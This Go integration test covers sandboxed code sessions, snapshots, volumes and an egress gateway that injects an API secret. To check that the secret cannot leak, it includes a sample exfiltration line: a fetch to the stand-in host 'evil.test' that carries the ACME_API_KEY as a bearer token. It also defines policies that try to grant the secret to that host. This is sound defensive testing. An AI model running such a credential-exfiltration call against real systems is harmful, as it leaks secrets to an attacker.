package session

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/engi-dev/engi/internal/engi"
)

// TestFlow tests a session from end to end: a dependency with docs,
// secret and host; its snapshot; a session; code that calls the API through the
// SDK with a secret that the egress gateway inserts; a second session from the
// same snapshot; a volume that survives and is removed at the end.
func TestFlow(t *testing.T) {
	r := newRegistry(t)
	acme(t, r)
	a := serveAPI(t, "api.acme.test", "evil.test")
	t.Setenv("ACME_API_KEY", secretValue)
	c := settings(t, r, `
[network]
hosts = ["api.acme.test=`+outside+`", "evil.test=`+outside+`"]

[sandbox]
enabled = true
provider = "deno"
mode = "lazy"
region = "ord"
volume_ttl_minutes = 30
volume_capacity_mb = 64
timeout_seconds = 60
memory_mb = 768

[[sandbox.dependencies]]
package = "@acme/sdk"
docs = ["https://acme.example/sdk.md"]
secret_env = "ACME_API_KEY"
hosts = ["api.acme.test"]
`)
	n := run(t, c)
	if d := n.installed(t); d.State != engi.DependenciesReady {
		t.Fatalf("%+v", d)
	}
	s := n.session(t, engi.SessionSpec{Name: "ui", TTL: 10 * time.Second, Dormancy: 5 * time.Minute})
	if s.State != engi.SessionIdle || s.Sandbox != "" {
		t.Errorf("a lazy session begins as %+v", s)
	}

	call := `import { Acme } from "@acme/sdk";
const acme = new Acme({ key: Deno.env.get("ACME_API_KEY")!, url: "https://api.acme.test" });
const { issues } = await acme.issues();
issues.map((i: { title: string }) => i.title)`
	res := n.code(t, s.ID, call)
	if string(res.Value) != `["first"]` {
		t.Errorf("value %s", res.Value)
	}
	if keys := a.seen(); !slices.Equal(keys, []string{"Bearer " + secretValue}) {
		t.Errorf("the API saw %q", keys)
	}
	t.Logf("first session: sandbox after %v, code in %v", res.BootTime.Round(time.Millisecond), res.Duration.Round(time.Millisecond))

	// The value is not in the sandbox, and is sent to no other host.
	res = n.code(t, s.ID, `Object.fromEntries(["ACME_API_KEY", "HOME"].map((k) => [k, Deno.env.get(k)]))`)
	if strings.Contains(string(res.Value), secretValue) || !strings.Contains(string(res.Value), "ACME_API_KEY") {
		t.Errorf("inside: %s", res.Value)
	}
	const evil = `(await fetch("https://evil.test/", { headers: { authorization: "Bearer " + Deno.env.get("ACME_API_KEY") } })).status`
	n.fails(t, s.ID, evil, "policy does not allow")
	for _, p := range []engi.NetworkPolicy{
		{Mode: engi.NetworkRestricted, Grants: []engi.Grant{{Secret: "sandbox.ACME_API_KEY", Hosts: []string{"evil.test"}, As: engi.GrantBearer}}},
		{Mode: engi.NetworkRestricted, Allow: []string{"evil.test"}, Headers: []engi.HeaderRule{{Host: "evil.test", Headers: map[string]string{"X": "${secrets.sandbox.ACME_API_KEY}"}}}},
	} {
		if x, err := n.Sandboxes().Create(t.Context(), engi.SandboxSpec{Template: "base", Network: p}); !engi.Is(err, engi.Denied) {
			t.Errorf("a sandbox that sends the secret elsewhere: %v, %v", x.ID, err)
		}
	}
	// The name of another host does not help either: the session may reach the
	// other host, and still has only a placeholder to send.
	open := n.session(t, engi.SessionSpec{Network: engi.NetworkPolicy{Mode: engi.NetworkRestricted, Allow: []string{"evil.test"}}})
	before := len(a.seen())
	// The session does not trust the API's certificate, unlike the egress gateway: in that
	// case no request arrives.
	if res, err := n.RunCode(t.Context(), engi.Everyone, string(open.ID), engi.CodeSpec{Code: evil}, nil); err != nil {
		t.Fatal(err)
	} else if res.OK && string(res.Value) != "401" {
		t.Errorf("the other host says %s", res.Value)
	}
	for _, key := range a.seen()[before:] {
		if strings.Contains(key, secretValue) {
			t.Error("the secret reached another host")
		}
	}

	// A second session boots from the same snapshot.
	second := n.session(t, engi.SessionSpec{Name: "second"})
	res = n.code(t, second.ID, call)
	t.Logf("second session: sandbox after %v (wanted: less than 1s), code in %v", res.BootTime.Round(time.Millisecond), res.Duration.Round(time.Millisecond))
	if err := n.Terminate(t.Context(), engi.Everyone, "second"); err != nil {
		t.Error(err)
	}

	// The contents of the volume survive the sandbox; modules in it can be
	// imported.
	n.code(t, s.ID, `await Deno.mkdir("lib"); await Deno.writeTextFile("lib/titles.ts", "export const shout = (s: string) => s.toUpperCase() + '!';")`)
	old := n.code(t, s.ID, `1`).Sandbox
	if err := n.Release(t.Context(), engi.Everyone, "ui"); err != nil {
		t.Fatal(err)
	}
	if x, err := n.Sessions.Get(t.Context(), engi.Everyone, "ui"); err != nil || x.State != engi.SessionIdle || x.Sandbox != "" || x.Volume == "" {
		t.Errorf("released: %+v, %v", x, err)
	}
	res = n.code(t, s.ID, `import { shout } from "./lib/titles.ts"; shout("kept")`)
	if string(res.Value) != `"KEPT!"` || res.Sandbox == old || res.BootTime == 0 {
		t.Errorf("after release: %s in %s, was %s", res.Value, res.Sandbox, old)
	}
	used, err := n.Sessions.Get(t.Context(), engi.Everyone, "ui")
	if err != nil || !used.Used.After(s.Created) || used.Expires.Sub(used.Used) != s.TTL {
		t.Errorf("registry: %+v, %v", used, err)
	}

	// The time to live removes sandbox, volume and entry.
	gone := wait(t, "the session is over", func() (engi.Session, bool) {
		x, err := n.Sessions.Get(t.Context(), engi.Everyone, string(s.ID))
		if err != nil {
			t.Fatal(err)
		}
		return x, x.State == engi.SessionTerminated && x.Volume == "" && x.Sandbox == ""
	})
	if since := time.Since(used.Used); since < s.TTL {
		t.Errorf("it went after %v, want %v", since, s.TTL)
	}
	if all, err := n.Sessions.List(t.Context(), engi.Everyone, engi.Paging{}); err != nil || slices.ContainsFunc(all, func(x engi.Session) bool { return x.ID == gone.ID }) {
		t.Errorf("still listed: %v, %v", all, err)
	}
	_, err = n.RunCode(t.Context(), engi.Everyone, string(s.ID), engi.CodeSpec{Code: "1"}, nil)
	if !engi.Is(err, engi.NotFound) || !strings.Contains(err.Error(), "nobody used it for 10s") || !strings.Contains(engi.RemedyOf(err), "new one") {
		t.Errorf("code in an expired session: %v; %s", err, engi.RemedyOf(err))
	}
}
